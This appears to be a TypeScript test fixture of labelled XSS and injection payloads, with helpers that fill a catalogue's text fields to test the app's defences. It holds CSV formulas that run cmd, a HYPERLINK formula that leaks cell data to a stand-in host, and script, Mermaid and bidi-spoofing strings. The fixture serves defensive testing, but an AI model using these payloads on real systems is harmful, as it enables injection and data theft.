/**
 * Hostile texts for tests (unit, property and e2e): what a catalogue written by someone else
 * may put in any of its text fields. Imported by tests only; never shown by the app.
 *
 * Each payload names the construct it tries to create, so a failing test says which defence
 * broke. Ids and keys are in RESERVED_KEYS: the catalogue's id schemas refuse them.
 */

export type PayloadKind =
  'html' | 'markdown' | 'mermaid' | 'csv' | 'json' | 'unicode' | 'long' | 'url';

export interface HostilePayload {
  kind: PayloadKind;
  /** What it tries to do, in a few words. */
  name: string;
  text: string;
}

const p = (kind: PayloadKind, name: string, text: string): HostilePayload => ({ kind, name, text });

/** 90 XSS and injection payloads, grouped by the output they attack. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  // HTML and script
  p('html', 'script tag', '<script>window.__pwned=1</script>'),
  p('html', 'script tag, upper case', '<SCRIPT SRC=//x.invalid/x.js></SCRIPT>'),
  p('html', 'img onerror', '<img src=x onerror="window.__pwned=1">'),
  p('html', 'svg onload', '<svg onload=window.__pwned=1>'),
  p('html', 'svg script', '<svg><script>window.__pwned=1</script></svg>'),
  p('html', 'iframe srcdoc', '<iframe srcdoc="<script>window.__pwned=1</script>"></iframe>'),
  p('html', 'anchor javascript href', '<a href="javascript:window.__pwned=1">click</a>'),
  p('html', 'attribute breakout', '" onmouseover="window.__pwned=1" x="'),
  p('html', 'single-quote attribute breakout', "' autofocus onfocus='window.__pwned=1"),
  p('html', 'closing tag breakout', '</textarea></title></style><script>window.__pwned=1</script>'),
  p('html', 'details ontoggle', '<details open ontoggle=window.__pwned=1>'),
  p('html', 'entity-encoded script', '&lt;script&gt;window.__pwned=1&lt;/script&gt;'),
  p('html', 'numeric entities', '&#60;img src=x onerror=window.__pwned=1&#62;'),
  p(
    'html',
    'foreignObject',
    '<foreignObject><body onload="window.__pwned=1"></body></foreignObject>',
  ),
  p(
    'html',
    'math/style mutation',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  ),
  p('html', 'template literal', '${window.__pwned=1}'),
  p('html', 'angular-style template', '{{constructor.constructor("window.__pwned=1")()}}'),
  // Markdown
  p('markdown', 'javascript link', '[click me](javascript:window.__pwned=1)'),
  p('markdown', 'javascript link, encoded scheme', '[x](jav&#x61;script:alert(1))'),
  p('markdown', 'image', '![x](https://x.invalid/track.png)'),
  p('markdown', 'image onerror', '![x" onerror="alert(1)](x)'),
  p('markdown', 'reference link definition', '[a]: javascript:alert(1)'),
  p('markdown', 'autolink', '<javascript:alert(1)>'),
  p('markdown', 'raw html block', '<div onclick="alert(1)">x</div>'),
  p('markdown', 'heading', '# Injected heading'),
  p('markdown', 'heading after newline', 'name\n## Injected heading'),
  p('markdown', 'setext heading', 'name\n===='),
  p('markdown', 'blockquote', '> quoted'),
  p('markdown', 'list item', '- item'),
  p('markdown', 'ordered list item', '1. item'),
  p('markdown', 'table pipes', 'a | b | c'),
  p('markdown', 'table row after newline', 'x |\n| --- |\n| injected |'),
  p('markdown', 'code fence breakout', '```\n</pre><script>alert(1)</script>\n```'),
  p('markdown', 'mermaid fence breakout', '"]\n```\n# Injected\n```mermaid\nflowchart TD'),
  p('markdown', 'inline code', '`code` and ``more``'),
  p('markdown', 'emphasis breakout', '** bold ** __ under __ ~~strike~~'),
  p('markdown', 'escaped backslash', '\\[x\\](javascript:alert(1))'),
  p('markdown', 'html comment', '<!-- hidden --> shown'),
  p('markdown', 'bare URL (GFM autolink)', 'https://evil.example/phish'),
  p('markdown', 'bare URL, upper case', 'HTTPS://EVIL.EXAMPLE/login'),
  p('markdown', 'ftp URL (GFM autolink)', 'ftp://files.evil.example/update.exe'),
  p('markdown', 'www address (GFM autolink)', 'www.evil.example/login'),
  p('markdown', 'e-mail address (GFM autolink)', 'attacker@evil.example'),
  p('markdown', 'mailto e-mail', 'mailto:attacker@evil.example'),
  p('markdown', 'angle-bracket autolink', '<https://evil.example>'),
  p(
    'markdown',
    'URLs in a sentence',
    'Licence expired: see www.evil.example or mail help@evil.example',
  ),
  // Mermaid source
  p('mermaid', 'label breakout', '"]-->X["injected'),
  p('mermaid', 'round label breakout', '")-->X("injected'),
  p('mermaid', 'decision label breakout', '"}-->X{"injected'),
  p('mermaid', 'edge label breakout', '"|-->X|"'),
  p('mermaid', 'init directive', '%%{init: {"securityLevel":"loose"}}%%'),
  p(
    'mermaid',
    'init directive, single quotes',
    "%%{init: {'securityLevel':'loose','startOnLoad':true}}%%",
  ),
  p('mermaid', 'comment', '%% comment'),
  p('mermaid', 'click call', 'x"]\nclick A call alert(1)\nA["'),
  p('mermaid', 'click href', 'click A href "javascript:alert(1)"'),
  p('mermaid', 'style injection', 'x"]\nstyle A fill:#f00,stroke:url(javascript:alert(1))\nA["'),
  p('mermaid', 'classDef injection', 'x"];classDef evil fill:#f00;class A evil;A["'),
  p('mermaid', 'statement after semicolon', 'x"];A-->B;B["'),
  p('mermaid', 'class shorthand', 'A:::evil'),
  p('mermaid', 'br tag', 'a<br>b<br/>c'),
  p('mermaid', 'entity', '#quot; #35; #lt;script#gt;'),
  p('mermaid', 'markdown string', '"`**bold**`"'),
  p('mermaid', 'subgraph', 'x"]\nsubgraph evil\nend\nA["'),
  // CSV formulas
  p('csv', 'equals command', "=cmd|' /C calc'!A0"),
  p('csv', 'hyperlink', '=HYPERLINK("https://x.invalid/?leak="&A1,"click")'),
  p('csv', 'plus', "+1+cmd|' /C calc'!A0"),
  p('csv', 'minus', '-1+1'),
  p('csv', 'at', "@SUM(1+1)*cmd|' /C calc'!A0"),
  p('csv', 'leading tab', '\t=1+1'),
  p('csv', 'leading carriage return', '\r=1+1'),
  p('csv', 'formula after newline', 'safe\n=1+1'),
  p('csv', 'quote and comma', '"a", "b"'),
  p('csv', 'DDE', '=DDE("cmd";"/C calc";"!A0")'),
  // JSON breakers
  p('json', 'closing brace', '"}, "polluted": true, "x": {"'),
  p('json', 'proto key text', '{"__proto__": {"polluted": true}}'),
  p('json', 'lone surrogate', 'a\uD800b'),
  p('json', 'line separators', 'a\u2028b\u2029c'),
  p('json', 'nul', 'a\u0000b'),
  // Unicode: bidi, control and zero-width characters
  p('unicode', 'bidi override', 'safe\u202Egnp.exe'),
  p('unicode', 'bidi isolates', '\u2066admin\u2069\u2067x\u2069'),
  p('unicode', 'zero width', 'K\u200B3\u200Cs\u200D\uFEFF'),
  p('unicode', 'control characters', 'a\u0001\u0007\u001B[31mred\u007F\u0085b'),
  p('unicode', 'combining marks', 'Z\u0351\u0352\u0353\u0354\u0355\u0356a\u0357\u0358\u0359'),
  p('unicode', 'emoji and astral', '🚀 𝕏 👨‍👩‍👧'),
  // Long
  p('long', 'very long', 'A'.repeat(3999)),
  p('long', 'long markup', '<b>'.repeat(1000)),
  // URLs
  p('url', 'javascript URL', 'javascript:window.__pwned=1'),
  p('url', 'data URL', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  p('url', 'vbscript URL', 'vbscript:msgbox(1)'),
  p('url', 'query breakout', '&catalogue=https://x.invalid/evil.json#'),
];

/** Ids and keys that name a property of every object. */
export const RESERVED_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];

/** The payloads that fit a limit (a technology name holds 80 characters, a source 500). */
export function payloadsUpTo(max: number): string[] {
  return HOSTILE_PAYLOADS.map((x) => x.text).filter((t) => t.trim() !== '' && t.length <= max);
}

/** Keys whose string values are free text in a catalogue (schema.ts); everything else is an id or a code. */
const TEXT_KEYS = new Set([
  'zh',
  'en',
  'name',
  'quote',
  'seedWording',
  'seedNote',
  'label',
  'core',
  'combination',
  'scheme',
]);

/** The most characters a free-text field holds, by key (schema.ts: NAME_MAX, SOURCE_MAX, quote). */
const TEXT_LIMITS: Record<string, number> = { name: 80, source: 500, quote: 2000 };

/** A free-text field of a catalogue: where it is, what it held. */
export interface TextField {
  path: string;
  key: string;
  text: string;
}

/**
 * A copy of a catalogue with every free-text field (names, summaries, notes, quotes, sources
 * the user entered, labels, wordings) replaced by `replace(field)`, cut to the field's limit.
 * Ids, section references, enums and numbers are kept, so the copy stays valid.
 */
export function withTextEverywhere<T>(catalogue: T, replace: (field: TextField) => string): T {
  const walk = (value: unknown, path: string, key: string, parentKey: string): unknown => {
    if (typeof value === 'string') {
      const isText = TEXT_KEYS.has(key) || (key === 'source' && parentKey === 'entered');
      if (!isText) return value;
      const text = replace({ path, key, text: value });
      const limit = TEXT_LIMITS[key] ?? 4000;
      const cut = text.length > limit ? text.slice(0, limit) : text;
      return cut.trim() === '' ? value : cut;
    }
    if (Array.isArray(value)) return value.map((v, i) => walk(v, `${path}[${i}]`, key, parentKey));
    if (value !== null && typeof value === 'object') {
      // fromEntries defines own properties: a `__proto__` key stays a key.
      return Object.fromEntries(
        Object.entries(value).map(([k, v]) => [k, walk(v, path ? `${path}.${k}` : k, k, key)]),
      );
    }
    return value;
  };
  return walk(catalogue, '', '', '') as T;
}
